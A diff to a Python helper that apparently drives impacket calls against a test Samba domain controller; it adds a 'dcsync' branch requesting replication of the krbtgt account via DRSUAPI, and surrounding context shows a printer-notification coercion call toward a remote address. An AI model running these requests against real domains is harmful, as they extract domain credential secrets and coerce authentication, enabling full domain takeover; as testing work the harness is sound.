@@ -1,8 +1,9 @@
 """Calls of impacket that domain.sh makes against a real Samba domain controller. Usage: domain.py <what> <address>."""
 import sys
 
-from impacket.dcerpc.v5 import epm, nrpc, rprn, scmr, transport
+from impacket.dcerpc.v5 import drsuapi, epm, nrpc, rprn, scmr, transport
 from impacket.dcerpc.v5.dtypes import NULL
+from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY
 from impacket.smbconnection import SMBConnection
 
 what, address = sys.argv[1:3]
@@ -34,6 +35,51 @@ if what == 'printer':
     request['pszLocalMachine'] = '\\\\203.0.113.66\x00'
     request['pOptions'] = NULL
     attempt(dce.request, request)
+elif what == 'dcsync':
+    rpc = transport.DCERPCTransportFactory(epm.hept_map(address, drsuapi.MSRPC_UUID_DRSUAPI, protocol='ncacn_ip_tcp'))
+    rpc.set_credentials(USER, PASSWORD, DOMAIN)
+    dce = rpc.get_dce_rpc()
+    dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
+    dce.connect()
+    dce.bind(drsuapi.MSRPC_UUID_DRSUAPI)
+    request = drsuapi.DRSBind()
+    request['puuidClientDsa'] = drsuapi.NTDSAPI_CLIENT_GUID
+    extensions = drsuapi.DRS_EXTENSIONS_INT()
+    extensions['cb'] = len(extensions)
+    extensions['dwFlags'] = drsuapi.DRS_EXT_GETCHGREQ_V6 | drsuapi.DRS_EXT_GETCHGREPLY_V6 | drsuapi.DRS_EXT_STRONG_ENCRYPTION
+    for field in ('SiteObjGuid', 'ConfigObjGUID'):
+        extensions[field] = drsuapi.NULLGUID
+    for field in ('Pid', 'dwReplEpoch', 'dwFlagsExt', 'dwExtCaps'):
+        extensions[field] = 0
+    request['pextClient']['cb'] = len(extensions)
+    request['pextClient']['rgb'] = list(extensions.getData())
+    handle = dce.request(request)['phDrs']
+    name = drsuapi.DSNAME()
+    name['SidLen'] = 0
+    name['Guid'] = drsuapi.NULLGUID
+    name['Sid'] = ''
+    name['NameLen'] = len('CN=krbtgt,CN=Users,DC=example,DC=lan')
+    name['StringName'] = 'CN=krbtgt,CN=Users,DC=example,DC=lan\x00'
+    name['structLen'] = len(name.getData())
+    changes = drsuapi.DRSGetNCChanges()
+    changes['hDrs'] = handle
+    changes['dwInVersion'] = 8
+    changes['pmsgIn']['tag'] = 8
+    v8 = changes['pmsgIn']['V8']
+    v8['uuidDsaObjDest'] = drsuapi.NTDSAPI_CLIENT_GUID
+    v8['uuidInvocIdSrc'] = drsuapi.NTDSAPI_CLIENT_GUID
+    v8['pNC'] = name
+    v8['usnvecFrom']['usnHighObjUpdate'] = 0
+    v8['usnvecFrom']['usnHighPropUpdate'] = 0
+    v8['pUpToDateVecDest'] = NULL
+    v8['ulFlags'] = drsuapi.DRS_INIT_SYNC | drsuapi.DRS_WRIT_REP
+    v8['cMaxObjects'] = 1
+    v8['cMaxBytes'] = 0
+    v8['ulExtendedOp'] = drsuapi.EXOP_REPL_OBJ
+    v8['pPartialAttrSet'] = NULL
+    v8['pPartialAttrSetEx1'] = NULL
+    v8['PrefixTableDest']['pPrefixEntry'] = NULL
+    attempt(dce.request, changes)
 elif what == 'printers':
     dce = pipe('spoolss', rprn.MSRPC_UUID_RPRN)
     attempt(rprn.hRpcOpenPrinter, dce, f'\\\\{address}\x00')
